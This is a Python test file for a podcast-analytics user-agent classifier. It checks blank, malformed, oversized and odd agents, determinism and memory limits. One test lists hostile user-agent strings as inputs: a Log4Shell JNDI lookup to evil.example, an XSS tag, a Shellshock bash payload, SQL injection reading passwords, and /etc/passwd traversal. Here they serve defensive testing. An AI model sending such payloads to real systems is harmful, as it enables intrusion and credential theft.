"""Whatever arrives as a user agent: it is answered, and the answer depends on nothing else."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tallycast.measurement.agents import built_in, built_in_documents, load_documents
from tallycast.measurement.filters import is_malformed
from tallycast.measurement.lengths import LONGEST_AGENT, LONGEST_KEPT
from tallycast.measurement.model import AGENTS
from tests.unit.measurement.agents.agent_bundles import a_document, a_list

OVERCAST = "Overcast/3.0 (+http://overcast.fm/; iOS podcast app)"
REAL = [
    OVERCAST,
    "AppleCoreMedia/1.0.0.19G82 (iPhone; U; CPU OS 15_6_1 like Mac OS X; en_us)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "okhttp/4.9.1",
    "atc/1.0 watchOS/9.0",
    "",
    "-",
    "nobody knows this",
    "播客/1709.2.2 CFNetwork/1390 Darwin/22.0.0",
]
anything = st.one_of(
    st.text(max_size=60),
    st.text(st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=20),
    st.sampled_from(REAL),
    st.tuples(st.sampled_from(REAL), st.text(max_size=10)).map("".join),
)


def one(agent):
    return built_in().classify([agent])[0]


@pytest.mark.parametrize(
    "agent", ["", "-", " ", "   ", " - ", "null", "(null)", "None", "undefined"]
)
def test_no_user_agent_is_blank(agent):
    assert one(agent)[1:] == ("blank", None, None, None, False, False)


@pytest.mark.parametrize(
    "agent",
    [
        f"{OVERCAST}\x00",
        "\x00",
        f"{OVERCAST}\n",
        f"{OVERCAST}\r\nX-Header: 1",
        f"{OVERCAST}\x1b[31m",
        f"{OVERCAST}\x7f",
        f"{OVERCAST}\x85",
        f"{OVERCAST}\ud800",
        "\udcff\udcfe",
        OVERCAST.ljust(LONGEST_AGENT + 1),
        "Googlebot " * 105_000,
        "a" * 1_048_576,
        "\x00" * 1_048_576,
        "(((((",
        "0",
        "1.0 (2)",
        "?",
        "--",
        '""',
    ],
)
def test_what_can_be_no_user_agent_is_malformed(agent):
    assert one(agent)[1:] == ("malformed", None, None, None, False, False)


@pytest.mark.parametrize("length", [LONGEST_AGENT, LONGEST_AGENT + 1, LONGEST_KEPT])
def test_the_lists_and_the_rules_agree_on_which_agent_is_too_long(length):
    agent = OVERCAST.ljust(length, "x")
    assert (one(agent).kind == "malformed") == is_malformed(agent) == (length > LONGEST_AGENT)


@pytest.mark.parametrize(
    "agent",
    [OVERCAST.ljust(LONGEST_AGENT), f"{OVERCAST} é\u00a0播\ufffd\U0001f399", f"{OVERCAST}\u200b"],
)
def test_what_is_only_strange_is_still_recognised(agent):
    assert one(agent)[1:3] == ("app", "Overcast")


@pytest.mark.parametrize(
    "agent",
    [
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "() { :;}; /bin/bash -c 'id'",
        "x' UNION SELECT password FROM users--",
        "../../../../etc/passwd",
    ],
)
def test_an_attack_by_user_agent_is_a_bot(agent):
    assert one(agent).is_bot


@pytest.mark.parametrize(
    "agent",
    [text * (LONGEST_AGENT // len(text)) for text in ("a", "(", "Mozilla/5.0 ", "bot")],
)
def test_long_repeats_are_answered(agent):
    assert one(agent).user_agent == agent


@given(st.lists(anything, max_size=20), st.randoms())
def test_an_answer_depends_on_nothing_but_the_text(agents, dice):
    answers = built_in().classify(agents)
    assert [answer.user_agent for answer in answers] == agents
    assert answers == [one(agent) for agent in agents]
    shuffled = dice.sample(range(len(agents)), len(agents))
    assert built_in().classify([agents[n] for n in shuffled]) == [answers[n] for n in shuffled]


@given(anything)
def test_every_answer_is_a_row_of_the_agents_table(agent):
    answer = one(agent)
    assert answer._fields == tuple(AGENTS)
    assert answer.kind in {"bot", "app", "library", "browser", "unknown", "blank", "malformed"}
    assert (answer.name is None) == (answer.kind in {"unknown", "blank", "malformed"})
    assert (answer.device is None) == (answer.category is None)
    assert not (answer.is_bot and answer.device)
    assert not answer.is_bot or answer.kind in {"bot", "library"}


def test_a_flood_of_different_agents_does_not_fill_memory(monkeypatch):
    first = built_in().classify(REAL)
    monkeypatch.setattr("tallycast.measurement.agents.matcher._MOST_REMEMBERED", 3)
    known = load_documents(built_in_documents())
    for _ in range(2):
        assert known.classify(REAL) == first
        assert len(known._agents._answers) <= 3
        assert len(known._agents._plans) <= 3


def test_an_agent_of_very_many_words_is_not_remembered():
    known = load_documents(built_in_documents())
    before = len(known._agents._plans)
    [answer] = known.classify(["iPhone" * 100])
    assert (answer.name, answer.device) == (None, "Apple iPhone")
    assert len(known._agents._plans) == before


def test_words_within_words_are_all_found():
    """Each of them ends wherever the agent goes on, a hundred at every letter."""
    entries = [{"name": f"{n} letters", "equals": ["a" * n]} for n in range(1000, 1, -1)]
    known = a_list(bots=a_document(*entries, {"name": "many", "holds": ["a" * 100, "aaa"]}))
    agents = ["a" * n for n in (1, 2, 100, 127, 128, 129, 1000, LONGEST_AGENT)]
    assert [agent.name for agent in known.classify(agents)] == [
        None, *(f"{n} letters" for n in (2, 100, 127, 128, 129, 1000)), "many"
    ]  # fmt: skip


def test_no_agents_give_no_answers():
    assert built_in().classify([]) == []
    assert built_in().classify_referrers([]) == []
